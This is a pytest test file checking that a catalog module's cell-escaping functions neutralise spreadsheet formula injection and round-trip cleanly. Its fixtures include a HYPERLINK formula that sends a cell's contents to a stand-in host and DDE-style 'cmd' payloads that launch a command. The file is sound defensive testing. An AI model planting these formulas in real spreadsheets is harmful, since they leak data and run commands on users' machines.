"""Spreadsheet cells never run as formulas, and escaping round-trips."""

import pytest

from catalog.cells import cell_safe, cell_unsafe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
        "=1+2",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
    ],
)
def test_formula_text_is_neutralised(text):
    """Text that a spreadsheet would run as a formula starts with an apostrophe."""
    safe = cell_safe(text)
    assert safe == "'" + text
    assert cell_unsafe(safe) == text


@pytest.mark.parametrize(
    "value", ["Lamp", "-2", "+3.5", "-0.25", "1e3", "", None, 12, 3.5, "'hello", "a=b"]
)
def test_harmless_values_are_unchanged(value):
    """Plain text, numbers and empty cells are written as they are."""
    assert cell_safe(value) == value
    assert cell_unsafe(value) == value


@pytest.mark.parametrize("text", ["'=1+2", "''=1+2", "'@x", "'-x"])
def test_leading_apostrophes_round_trip(text):
    """Text that already starts with an apostrophe before a trigger survives a round trip."""
    safe = cell_safe(text)
    assert safe == "'" + text
    assert cell_unsafe(safe) == text
